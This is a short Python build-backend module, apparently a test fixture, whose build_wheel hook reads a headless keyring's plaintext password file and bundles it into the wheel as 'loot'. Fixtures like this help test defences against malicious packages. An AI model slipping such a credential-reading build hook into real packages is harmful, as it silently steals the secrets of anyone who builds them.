"""Reads the plain file in which a keyring without a desktop keeps its passwords."""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-keyring"):
        loot["data.bin"] = pathlib.Path(kit.plant("store").path).read_bytes()
    return kit.wheel(wheel_directory, loot)
